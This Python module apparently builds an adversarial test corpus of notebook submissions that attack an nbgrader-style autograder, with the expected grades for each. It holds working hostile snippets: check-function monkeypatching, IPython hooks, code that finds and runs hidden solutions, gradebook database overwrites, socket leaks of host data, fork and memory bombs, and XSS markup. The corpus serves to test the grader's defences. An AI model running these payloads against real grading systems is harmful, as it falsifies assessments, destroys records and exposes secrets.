"""The adversarial corpus: submissions that attack the grader, one or more per class of attack.

Every entry builds a submission folder for the fixture module (tests/fixtures/course) and states what grading
must conclude: the score per test cell ("zero", "full", a dict, or None when it is not known in advance),
whether the row is flagged as possible tampering, the status, and words the reason (or the notes) must
contain. The classes (:class:`AttackClass`) follow issue 5 (1-15) and issue 11 (16-21); each has a function
here that builds its entries. A new attack goes into its class's function; a new class gets a member of
:class:`AttackClass` and a function registered in ``BUILDERS``.
"""

import dataclasses
import enum
import json
import os
from pathlib import Path

import nbformat

MODULE = "90_fixture"
SECRET = "s3cr3t-token-that-must-not-leak"
FULL = {"test_sigmoid": 3.0, "test_relu": 2.0}
ZERO = {"test_sigmoid": 0.0, "test_relu": 0.0}


class AttackClass(enum.IntEnum):
    MONKEYPATCHING = 1  # library monkeypatching
    KERNEL_HOOKS = 2  # IPython and kernel hooks
    FAKE_EQUALITY = 3  # return values that fake equality
    SHADOW_MODULES = 4
    READING_SECRETS = 5
    WRITING_GRADES = 6  # writing grades or results
    PROCESS_DEATH = 7  # kernel or process death
    NON_TERMINATION = 8
    MEMORY_BOMBS = 9
    PROCESS_EXPLOSIONS = 10  # process and thread explosions
    OUTPUT_FLOODS = 11
    NETWORK = 12  # network use
    STRUCTURE_TAMPERING = 13  # notebook-structure tampering
    MALFORMED_FILES = 14
    NOISY_BUT_CORRECT = 15  # correct but noisy code: full marks
    NO_EFFORT = 16  # constant, random or echoed answers of the right shape: nothing
    REPLACED_PROVIDED_CODE = 17  # redefining what the notebook provides changes nothing
    LIVE_MARKUP = 18  # scripts in the student's markup stay inert
    GRADER_EXHAUSTION = 19  # hostile frames, huge outputs, pipes in place of files
    HIDDEN_LEAKS = 20  # wrong answers: feedback names no hidden input or expected value
    RECORDED_HIDDEN_INPUTS = 21  # hard-coded outputs for the visible inputs only


@dataclasses.dataclass
class Attack:
    name: str
    klass: AttackClass
    build: object  # callable(folder: Path, fixture: Fixture) -> None
    scores: dict | None = dataclasses.field(default_factory=lambda: dict(ZERO))  # None: not fixed in advance
    flagged: bool | None = None  # None: either is acceptable
    status: str = "graded"
    mentions: tuple = ()  # words that the reason or the notes must contain (case-insensitive)


class Fixture:
    """The fixture module's release, and notebooks built from it."""

    def __init__(self, root):
        self.root = Path(root)
        self.release = nbformat.read(str(self.root / "course" / MODULE / f"{MODULE}.ipynb"), as_version=4)
        source = nbformat.read(str(self.root / "solutions" / MODULE / f"{MODULE}.ipynb"), as_version=4)
        self.answers = {}
        for cell in source.cells:
            meta = cell.metadata.get("nbgrader", {})
            if meta.get("solution"):
                lines = [
                    line
                    for line in cell.source.splitlines()
                    if "BEGIN SOLUTION" not in line and "END SOLUTION" not in line
                ]
                self.answers[meta["grade_id"]] = "\n".join(lines)

    def notebook(self, base="release", answers=None):
        notebook = nbformat.from_dict(json.loads(nbformat.writes(self.release)))
        filled = dict(self.answers) if base == "solution" else {}
        filled.update(answers or {})
        for cell in notebook.cells:
            gid = cell.metadata.get("nbgrader", {}).get("grade_id")
            if gid in filled and cell.metadata["nbgrader"].get("solution"):  # code and written answers
                cell.source = filled[gid]
        return notebook

    def stub(self, grade_id):
        return next(
            c.source for c in self.release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
        )


def target(folder):
    path = folder / MODULE / f"{MODULE}.ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def prefixed(code, base="release", cell="sigmoid"):
    """A submission whose `cell` starts with `code` (the rest: the release stub, or the model answer)."""

    def build(folder, fx):
        rest = fx.answers[cell] if base == "solution" else fx.stub(cell)
        nbformat.write(fx.notebook(base, {cell: code + "\n" + rest}), str(target(folder)))

    return build


def answering_code(code, cell="sigmoid"):
    return answering({cell: code})


def answering(answers, base="release"):
    def build(folder, fx):
        nbformat.write(fx.notebook(base, answers), str(target(folder)))

    return build


def edited(change, base="solution"):
    """A submission whose notebook is changed by `change(notebook)`."""

    def build(folder, fx):
        notebook = fx.notebook(base)
        change(notebook)
        nbformat.write(notebook, str(target(folder)))

    return build


def raw_file(content):
    def build(folder, fx):
        path = target(folder)
        path.write_bytes(content(fx) if callable(content) else content)

    return build


def _cell(notebook, grade_id):
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _drop_tests(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def _drop_sigmoid(nb):
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != "sigmoid"]


def _duplicate_wrong_after(nb):
    wrong = nbformat.from_dict(json.loads(json.dumps(_cell(nb, "sigmoid"))))
    wrong.source = "def sigmoid(z):\n    return z"
    wrong.id = "sigmoid-copy"
    nb.cells.append(wrong)


def _duplicate_wrong_first(nb):
    wrong = nbformat.from_dict(json.loads(json.dumps(_cell(nb, "sigmoid"))))
    wrong.source = "def sigmoid(z):\n    return z"
    wrong.id = "sigmoid-copy"
    nb.cells.insert(0, wrong)


def _reverse(nb):
    nb.cells = list(reversed(nb.cells))


def _retype(nb):
    _cell(nb, "relu").cell_type = "markdown"
    _cell(nb, "relu").pop("outputs", None)
    _cell(nb, "relu").pop("execution_count", None)
    test = _cell(nb, "test_sigmoid")
    test.cell_type = "raw"
    test.pop("outputs", None)
    test.pop("execution_count", None)


def _points(nb):
    _cell(nb, "test_sigmoid").metadata["nbgrader"]["points"] = 1000
    _cell(nb, "test_relu").metadata["nbgrader"]["grade"] = False


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def _rename_grade_id(nb):
    _cell(nb, "sigmoid").metadata["nbgrader"]["grade_id"] = "my_sigmoid"


def _nbformat3(fx):
    return nbformat.writes(nbformat.convert(fx.notebook("solution"), 3)).encode("utf-8")


def _latin1(fx):
    notebook = fx.notebook("solution")
    notebook.cells[0].source += "\n\nCaf\u00e9 na\u00efve"
    return nbformat.writes(notebook).encode("latin-1")


def _huge(folder, fx):
    with open(target(folder), "wb") as handle:
        handle.truncate(200 * 1024 * 1024)


def _renamed(folder, fx):
    path = folder / MODULE / "my work (final).ipynb"
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(fx.notebook("solution"), str(path))


def _missing(folder, fx):
    (folder / MODULE).mkdir(parents=True, exist_ok=True)
    (folder / MODULE / "notes.txt").write_text("I forgot the notebook")


def _symlink(folder, fx):
    target(folder).symlink_to(fx.root / "solutions" / MODULE / f"{MODULE}.ipynb")


def _extra_numpy(folder, fx):
    nbformat.write(fx.notebook("release"), str(target(folder)))
    (folder / MODULE / "numpy.py").write_text("raise SystemExit('shadowed')\n")
    (folder / MODULE / "nnlib").mkdir()
    (folder / MODULE / "nnlib" / "__init__.py").write_text("raise SystemExit('shadowed')\n")


WRONG = "def sigmoid(z):\n    return z\n"

FAKE_CHECKS = """
import sys, types
fake = types.ModuleType("nbchecks")
class Check:
    def __init__(self, name, points): self.points = points
    def part(self, *a, **k):
        import contextlib
        return contextlib.nullcontext()
    def score(self): return float(self.points)
fake.Check = Check
for name in ("expect_close", "expect_true", "expect_equal", "expect_array", "expect_shape", "expect_scalar"):
    setattr(fake, name, lambda *a, **k: None)
import contextlib
fake.caught_warnings = lambda: contextlib.nullcontext([])
sys.modules["nbchecks"] = fake
"""

FIND_AND_COPY_SOLUTIONS = """
import os, json
stolen = {}
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith(".ipynb") and "fixture" in name:
            try:
                cells = json.load(open(os.path.join(top, name)))["cells"]
            except Exception:
                continue
            for cell in cells:
                src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                if "BEGIN SOLUTION" in src:
                    exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
"""

WRITE_GRADEBOOK = """
import os, sqlite3
for top, dirs, files in os.walk("/"):
    if top.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    for name in files:
        if name.endswith(".db"):
            try:
                db = sqlite3.connect(os.path.join(top, name))
                db.execute("update grade set auto_score = 1000")
                db.execute("delete from submitted_assignment")
                db.commit()
                print("WROTE", top, name)
            except Exception as error:
                print("no", error)
for path in ("../autograded", "/tmp/autograded", "../../grades.csv"):
    try:
        os.makedirs(path, exist_ok=True)
        open(os.path.join(path, "grades.csv"), "w").write("alice,90_fixture,0")
    except Exception as error:
        print("no", error)
"""

NETWORK = """
import socket, os
for port in [int(p) for p in os.environ.get("GRADER_TEST_PORTS", "").split(",") if p] or [PORT]:
    for host in ("127.0.0.1", "localhost", "10.0.2.2", "172.17.0.1"):
        try:
            s = socket.create_connection((host, port), timeout=1)
            s.sendall(b"LEAK " + open("/etc/hostname").read().encode() if os.path.exists("/etc/hostname") else b"LEAK")
            print("CONNECTED", host, port)
        except Exception as error:
            print("blocked", host, port, type(error).__name__)
try:
    print(socket.gethostbyname("pypi.org"))
except Exception as error:
    print("dns blocked", type(error).__name__)
"""


RANDOM_ANSWERS = "random-answers"
COIN_FLIP_ANSWERS = {
    "sigmoid": "import numpy as np\ndef sigmoid(z):\n    right = 1 / (1 + np.exp(-np.asarray(z, dtype=float)))\n"
    "    return right if np.random.random() < 0.5 else right + 0.1",
    "relu": "import numpy as np\ndef relu(z):\n    z = np.asarray(z, dtype=float)\n"
    "    return np.maximum(0.0, z) if np.random.random() < 0.5 else z",
}


def _monkeypatching(port):
    """1. Library monkeypatching."""
    return [
        Attack(
            "patch-numpy-allclose",
            AttackClass.MONKEYPATCHING,
            prefixed(
                "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
                + WRONG
            ),
        ),
        Attack(
            "patch-nnlib-checks",
            AttackClass.MONKEYPATCHING,
            prefixed(
                "import nbchecks as c\nc.expect_close = lambda *a, **k: None\nc.expect_true = lambda *a, **k: None\nc.Check.score = lambda self: float(self.points)\n"
                + WRONG
            ),
            flagged=True,
            mentions=("tampering",),
        ),
        Attack(
            "patch-builtins",
            AttackClass.MONKEYPATCHING,
            prefixed(
                "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\nbuiltins.type = lambda *a: object\n"
                + WRONG
            ),
        ),
        Attack(
            "patch-torch",
            AttackClass.MONKEYPATCHING,
            prefixed(
                "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a: True\n" + WRONG
            ),
        ),
    ]


def _kernel_hooks(port):
    """2. IPython and kernel hooks."""
    return [
        Attack(
            "input-transformer",
            AttackClass.KERNEL_HOOKS,
            prefixed('get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])\n' + WRONG),
            flagged=True,
            mentions=("tampering",),
        ),
        Attack(
            "ast-transformer",
            AttackClass.KERNEL_HOOKS,
            prefixed(
                "import ast\nclass Blank(ast.NodeTransformer):\n    def visit_Module(self, node):\n        return ast.Module(body=[ast.Pass()], type_ignores=[])\nget_ipython().ast_transformers.append(Blank())\n"
                + WRONG
            ),
            flagged=True,
        ),
        Attack(
            "event-hook",
            AttackClass.KERNEL_HOOKS,
            prefixed(
                'def forget(result):\n    result.error_in_exec = None\n    result.result = 3.0\nget_ipython().events.register("post_run_cell", forget)\n'
                + WRONG
            ),
            flagged=True,
        ),
        Attack(
            "excepthook-settrace",
            AttackClass.KERNEL_HOOKS,
            prefixed(
                "import sys\nsys.excepthook = lambda *a: None\nsys.settrace(lambda *a: None)\nget_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n"
                + WRONG
            ),
        ),
    ]


def _fake_equality(port):
    """3. Return values that fake equality."""
    return [
        Attack(
            "fake-eq-object",
            AttackClass.FAKE_EQUALITY,
            answering(
                {
                    "sigmoid": "class Anything:\n    def __eq__(self, other): return True\n    def __array__(self, *a, **k):\n        import numpy as np\n        return np.array([0.5])\n    def __len__(self): return 1\ndef sigmoid(z):\n    return Anything()"
                }
            ),
        ),
        Attack(
            "array-subclass",
            AttackClass.FAKE_EQUALITY,
            answering(
                {
                    "sigmoid": "import numpy as np\nclass Always(np.ndarray):\n    def __eq__(self, other): return np.ones(self.shape, bool)\n    def __sub__(self, other): return np.zeros(self.shape)\n    __rsub__ = __sub__\ndef sigmoid(z):\n    return np.zeros(np.shape(z)).view(Always)"
                }
            ),
        ),
        Attack(
            "array-function",
            AttackClass.FAKE_EQUALITY,
            answering(
                {
                    "sigmoid": "import numpy as np\nclass Liar:\n    shape = (1,)\n    def __array_function__(self, func, types, args, kwargs): return True\n    def __array_ufunc__(self, *a, **k): return np.zeros(1)\ndef sigmoid(z):\n    return Liar()"
                }
            ),
        ),
        Attack(
            "torch-function",
            AttackClass.FAKE_EQUALITY,
            answering(
                {
                    "sigmoid": "import torch\nclass Liar(torch.Tensor):\n    @classmethod\n    def __torch_function__(cls, func, types, args=(), kwargs=None): return True\ndef sigmoid(z):\n    return torch.zeros(len(z)).as_subclass(Liar)"
                }
            ),
        ),
    ]


def _shadow_modules(port):
    """4. Shadow modules."""
    return [
        Attack(
            "extra-files-beside-notebook", AttackClass.SHADOW_MODULES, _extra_numpy, mentions=("ignored",)
        ),
        Attack(
            "sys-modules",
            AttackClass.SHADOW_MODULES,
            answering({"sigmoid": FAKE_CHECKS + WRONG}),
            flagged=True,
        ),
        Attack(
            "sys-path",
            AttackClass.SHADOW_MODULES,
            answering_code(
                "import os, sys\nos.makedirs('/tmp/fake/nbchecks', exist_ok=True)\nopen('/tmp/fake/nbchecks/__init__.py', 'w').write('''"
                + FAKE_CHECKS.replace('sys.modules["nbchecks"] = fake', "").replace(
                    'fake = types.ModuleType("nbchecks")', "fake = sys.modules[__name__]"
                )
                + "''')\nsys.path.insert(0, '/tmp/fake')\nfor name in [m for m in sys.modules if m.startswith('nbchecks')]:\n    del sys.modules[name]\n"
                + WRONG
            ),
            flagged=True,
        ),
    ]


def _reading_secrets(port):
    """5. Reading secrets."""
    return [
        Attack("copy-the-solutions", AttackClass.READING_SECRETS, prefixed(FIND_AND_COPY_SOLUTIONS)),
        Attack(
            "read-environment",
            AttackClass.READING_SECRETS,
            prefixed(
                "import os\nprint(dict(os.environ))\nprint(open('/proc/1/environ').read() if os.path.exists('/proc/1/environ') else '')\n"
            ),
        ),
    ]


def _writing_grades(port):
    """6. Writing grades or results."""
    return [
        Attack("write-gradebook", AttackClass.WRITING_GRADES, prefixed(WRITE_GRADEBOOK)),
    ]


def _process_death(port):
    """7. Kernel or process death."""
    return [
        Attack(
            "os-exit", AttackClass.PROCESS_DEATH, prefixed("import os\nos._exit(0)\n"), mentions=("stopped",)
        ),
        Attack("sys-exit", AttackClass.PROCESS_DEATH, prefixed("import sys\nsys.exit(3)\n")),
        Attack(
            "segfault",
            AttackClass.PROCESS_DEATH,
            prefixed("import ctypes\nctypes.string_at(0)\n"),
            mentions=("segmentation fault",),
        ),
        Attack(
            "kill-self",
            AttackClass.PROCESS_DEATH,
            prefixed("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
            mentions=("stopped",),
        ),
        Attack(
            "kill-parent",
            AttackClass.PROCESS_DEATH,
            prefixed(
                "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n    os.kill(1, signal.SIGKILL)\nexcept Exception as error:\n    print(error)\n"
            ),
        ),
    ]


def _non_termination(port):
    """8. Non-termination."""
    return [
        Attack("infinite-loop-in-cell", AttackClass.NON_TERMINATION, prefixed("while True:\n    pass\n")),
        Attack(
            "infinite-loop-in-function",
            AttackClass.NON_TERMINATION,
            answering({"sigmoid": "def sigmoid(z):\n    while True:\n        pass"}),
            mentions=("too long",),
        ),
        Attack("sleep", AttackClass.NON_TERMINATION, prefixed("import time\ntime.sleep(10**6)\n")),
        Attack("input", AttackClass.NON_TERMINATION, prefixed("name = input('Your name? ')\n")),
        Attack(
            "swallow-timeouts",
            AttackClass.NON_TERMINATION,
            answering(
                {
                    "sigmoid": "import time\ndef sigmoid(z):\n    while True:\n        try:\n            time.sleep(100)\n        except BaseException:\n            pass"
                }
            ),
            mentions=("stopped",),
        ),
    ]


def _memory_bombs(port):
    """9. Memory bombs."""
    return [
        Attack("bytearray-bomb", AttackClass.MEMORY_BOMBS, prefixed("x = bytearray(64 * 1024**3)\n")),
        Attack(
            "numpy-bomb",
            AttackClass.MEMORY_BOMBS,
            prefixed("import numpy as np\nx = np.ones((10**6, 10**5))\n"),
        ),
        Attack(
            "growing-list",
            AttackClass.MEMORY_BOMBS,
            prefixed("chunks = []\nwhile True:\n    chunks.append(bytearray(50 * 1024**2))\n"),
        ),
        Attack(
            "fill-tmp",
            AttackClass.MEMORY_BOMBS,
            prefixed(
                "n = 0\nwhile n < 10000:\n    open(f'/tmp/junk{n}', 'wb').write(b'x' * 2**20)\n    n += 1\n"
            ),
        ),
    ]


def _process_explosions(port):
    """10. Process and thread explosions."""
    return [
        Attack(
            "fork-bomb",
            AttackClass.PROCESS_EXPLOSIONS,
            prefixed(
                "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(600)\n        os._exit(0)\n"
            ),
        ),
        Attack(
            "thread-bomb",
            AttackClass.PROCESS_EXPLOSIONS,
            prefixed(
                "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
            ),
        ),
        Attack(
            "process-pool",
            AttackClass.PROCESS_EXPLOSIONS,
            prefixed("import multiprocessing\npool = multiprocessing.Pool(500)\n"),
        ),
    ]


def _output_floods(port):
    """11. Output floods."""
    return [
        Attack(
            "print-flood",
            AttackClass.OUTPUT_FLOODS,
            prefixed("for i in range(3_000_000):\n    print('spam', i)\n"),
        ),
        Attack(
            "raw-fd-flood",
            AttackClass.OUTPUT_FLOODS,
            prefixed(
                "import os\nfor _ in range(20):\n    os.write(1, b'x' * 5_000_000)\n    os.write(2, b'y' * 5_000_000)\n"
            ),
        ),
        Attack(
            "huge-return-value",
            AttackClass.OUTPUT_FLOODS,
            answering({"sigmoid": "import numpy as np\ndef sigmoid(z):\n    return np.zeros(30_000_000)"}),
        ),
    ]


def _network(port):
    """12. Network use."""
    return [
        Attack("network", AttackClass.NETWORK, prefixed(NETWORK.replace("PORT", str(port)))),
    ]


def _structure_tampering(port):
    """13. Notebook-structure tampering."""
    return [
        Attack(
            "deleted-test-cells",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_drop_tests),
            scores=dict(FULL),
            mentions=("missing",),
        ),
        Attack(
            "deleted-answer-cell",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_drop_sigmoid),
            scores={"test_sigmoid": 0.0, "test_relu": 2.0},
            mentions=("missing",),
        ),
        Attack(
            "duplicated-cell-wrong-copy-after",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_duplicate_wrong_after),
            scores=dict(FULL),
            mentions=("more than one copy",),
        ),
        Attack(
            "duplicated-cell-wrong-copy-first",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_duplicate_wrong_first),
            scores={"test_sigmoid": 0.0, "test_relu": 2.0},
            mentions=("more than one copy",),
        ),
        Attack("reordered-cells", AttackClass.STRUCTURE_TAMPERING, edited(_reverse), scores=dict(FULL)),
        Attack(
            "retyped-cells",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_retype),
            scores=dict(FULL),
            mentions=("graded as code",),
        ),
        Attack(
            "edited-points-and-flags",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_points, base="release"),
            mentions=("grading settings",),
        ),
        Attack("changed-kernelspec", AttackClass.STRUCTURE_TAMPERING, edited(_kernelspec), scores=dict(FULL)),
        Attack(
            "renamed-grade-id",
            AttackClass.STRUCTURE_TAMPERING,
            edited(_rename_grade_id),
            scores=dict(FULL),
            mentions=("grading settings",),
        ),
    ]


def _malformed_files(port):
    """14. Malformed files."""
    return [
        Attack(
            "invalid-json",
            AttackClass.MALFORMED_FILES,
            raw_file(b'{"cells": [{"cell_type": "code", '),
            status="ungradeable",
            mentions=("not a valid notebook",),
        ),
        Attack(
            "json-but-not-a-notebook",
            AttackClass.MALFORMED_FILES,
            raw_file(b"[1, 2, 3]"),
            status="ungradeable",
            mentions=("not a jupyter notebook",),
        ),
        Attack(
            "nbformat-3",
            AttackClass.MALFORMED_FILES,
            raw_file(_nbformat3),
            scores=dict(FULL),
            mentions=("format 3",),
        ),
        Attack(
            "not-utf8",
            AttackClass.MALFORMED_FILES,
            raw_file(_latin1),
            status="ungradeable",
            mentions=("not utf-8",),
        ),
        Attack(
            "200-megabytes", AttackClass.MALFORMED_FILES, _huge, status="ungradeable", mentions=("at most",)
        ),
        Attack(
            "renamed-notebook",
            AttackClass.MALFORMED_FILES,
            _renamed,
            scores=dict(FULL),
            mentions=("was named",),
        ),
        Attack(
            "missing-notebook",
            AttackClass.MALFORMED_FILES,
            _missing,
            status="ungradeable",
            mentions=("no notebook found",),
        ),
        Attack(
            "symlink-to-solutions",
            AttackClass.MALFORMED_FILES,
            _symlink,
            status="ungradeable",
            mentions=("symbolic link",),
        ),
    ]


def _noisy_but_correct(port):
    """15. Correct but noisy code: full marks."""
    return [
        Attack(
            "warnings-and-stderr",
            AttackClass.NOISY_BUT_CORRECT,
            prefixed(
                "import sys, warnings, logging\nwarnings.warn('this API is old', DeprecationWarning)\nprint('debug output', file=sys.stderr)\nlogging.warning('a log line')\n",
                base="solution",
            ),
            scores=dict(FULL),
        ),
        Attack(
            "noisy-functions",
            AttackClass.NOISY_BUT_CORRECT,
            answering(
                {
                    "sigmoid": "import sys, warnings\nimport numpy as np\ndef sigmoid(z):\n    print('computing sigmoid of', z)\n    print('on stderr too', file=sys.stderr)\n    warnings.warn('a harmless note', UserWarning)\n    z = np.asarray(z, dtype=float)\n    e = np.exp(-np.abs(z))\n    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))"
                },
                base="solution",
            ),
            scores=dict(FULL),
        ),
        Attack(
            "float32",
            AttackClass.NOISY_BUT_CORRECT,
            answering(
                {
                    "sigmoid": "import numpy as np\ndef sigmoid(z):\n    z = np.asarray(z, dtype=np.float32)\n    e = np.exp(-np.abs(z))\n    return np.where(z >= 0, 1 / (1 + e), e / (1 + e)).astype(np.float32)",
                    "relu": "import numpy as np\ndef relu(z):\n    return np.maximum(np.float32(0), np.asarray(z, dtype=np.float32))",
                },
                base="solution",
            ),
            scores=dict(FULL),
        ),
        # Answers drawn from NumPy's global generator: right or wrong by chance. Not an attack, so never
        # flagged, and graded reproducibly: identical copies get identical grades (test_adversarial).
        *[
            Attack(
                f"{RANDOM_ANSWERS}-{k}",
                AttackClass.NOISY_BUT_CORRECT,
                answering(COIN_FLIP_ANSWERS),
                scores=None,
                flagged=False,
            )
            for k in range(1, 6)
        ],
    ]


NO_EFFORT_ANSWERS = {
    "return-zero": "def sigmoid(z):\n    return 0\n",
    "zeros-like": "import numpy as np\ndef sigmoid(z):\n    return np.zeros_like(np.asarray(z, dtype=float))\n",
    "ones-like": "import numpy as np\ndef sigmoid(z):\n    return np.ones_like(np.asarray(z, dtype=float))\n",
    "random-like": "import numpy as np\ndef sigmoid(z):\n    return np.random.random(np.shape(z))\n",
    "echo-input": "def sigmoid(z):\n    return z\n",
}


def _no_effort(port):
    answers = {
        name: {"sigmoid": code, "relu": code.replace("sigmoid", "relu")}
        for name, code in NO_EFFORT_ANSWERS.items()
    }
    return [
        *[Attack(f"no-effort-{name}", AttackClass.NO_EFFORT, answering(a)) for name, a in answers.items()],
        Attack("no-effort-untouched-release", AttackClass.NO_EFFORT, answering({})),
    ]


OWN_HELPER = (
    "import numpy as np\n"
    "def make_inputs():\n    return np.array([-1.0, -2.0, -3.0])\n"
    "def relu(z):\n    return np.zeros_like(np.asarray(z, dtype=float))\n"
)


def _replaced_provided_code(port):
    return [
        Attack(
            "redefined-provided-helper", AttackClass.REPLACED_PROVIDED_CODE, answering({"relu": OWN_HELPER})
        )
    ]


HOSTILE_MARKUP = (
    "Layers collapse.\n\n<script>alert('XSS-1')</script>\n<img src=x onerror=\"alert('XSS-2')\">\n\n"
    "[click](javascript:alert('XSS-3'))\n\n<iframe src='https://example.org/XSS-4'></iframe>\n\n"
    "<svg onload=\"alert('XSS-5')\"><script>alert('XSS-6')</script></svg>\n\n"
    '<a href="data:text/html,XSS-7">data</a>\n'
)


def _live_markup(port):
    return [
        Attack(
            "script-in-markdown",
            AttackClass.LIVE_MARKUP,
            answering({"written_why": HOSTILE_MARKUP}, base="solution"),
            scores=dict(FULL),
        )
    ]


def _frame(header, body="b''"):
    """A cell that writes a frame (a length, then ``body``, a Python expression) into the runner's pipe."""
    return (
        "import os, sys, struct, time\n"
        f"body = {body}\n"
        "fd = int(sys.argv[4])\n"
        f"os.write(fd, struct.pack('>I', {header}))\n"
        "view = memoryview(body)\n"
        "while view:\n"
        "    view = view[os.write(fd, view[: 1 << 20]) :]\n"
        "time.sleep(30)\n"
    )


def _printing_cells(folder, fx):
    notebook = fx.notebook("solution")
    cells = [nbformat.v4.new_code_cell(f"print('{k % 10}' * 6000)") for k in range(1500)]
    notebook.cells[1:1] = cells
    nbformat.write(notebook, str(target(folder)))


def _fifo(folder, fx):
    os.mkfifo(target(folder))


def _grader_exhaustion(port):
    many_items = "b'[' + b'0,' * 3_000_000 + b'0]'"  # 6 MB: under the frame limit, over the item limit
    return [
        Attack(
            "oversized-frame",
            AttackClass.GRADER_EXHAUSTION,
            prefixed(_frame(60 * 2**20), base="solution"),
            mentions=("not a valid message",),
        ),
        Attack(
            "many-values-frame",
            AttackClass.GRADER_EXHAUSTION,
            prefixed(_frame(2 * 3_000_000 + 2, many_items), base="solution"),
            mentions=("not a valid message",),
        ),
        Attack("printing-cells", AttackClass.GRADER_EXHAUSTION, _printing_cells, scores=dict(FULL)),
        Attack(
            "fifo-instead-of-notebook",
            AttackClass.GRADER_EXHAUSTION,
            _fifo,
            status="ungradeable",
            mentions=("not a regular file",),
        ),
    ]


# What the hidden parts of the fixture's tests would reveal: titles, inputs and expected values.
HIDDEN_TEXT = (
    "stays exact",
    "-1000",
    "logistic curve",
    "[3.25",
    "-7.5",
    "0.96267",
    "0.000552",
    "5.527",
    "keeps the shape",
    "relu(matrix)",
    "random inputs",
)


def _hidden_leaks(port):
    wrong = {"sigmoid": "def sigmoid(z):\n    return z", "relu": "def relu(z):\n    return z"}
    return [Attack("wrong-answers", AttackClass.HIDDEN_LEAKS, answering(wrong), mentions=("not right",))]


VISIBLE_ONLY_RELU = (
    "import numpy as np\n"
    "KNOWN = {(-1.0, 0.0, 2.0): [0.0, 0.0, 2.0], (-3.0, 0.5, 4.0): [0.0, 0.5, 4.0]}\n"
    "def relu(z):\n"
    "    z = np.asarray(z, dtype=float)\n"
    "    return np.array(KNOWN.get(tuple(z.ravel().tolist()), np.zeros(z.size))).reshape(z.shape)\n"
)


def _recorded_hidden_inputs(port):
    return [
        Attack(
            "hard-coded-visible-outputs",
            AttackClass.RECORDED_HIDDEN_INPUTS,
            answering({"relu": VISIBLE_ONLY_RELU}, base="solution"),
            scores={"test_sigmoid": 3.0, "test_relu": 1.0},
        )
    ]


BUILDERS = {klass: globals()["_" + klass.name.lower()] for klass in AttackClass}


def corpus(port):
    """All attacks, class by class; `port` is a TCP port on this machine that no submission may reach."""
    return [attack for klass in AttackClass for attack in BUILDERS[klass](port)]
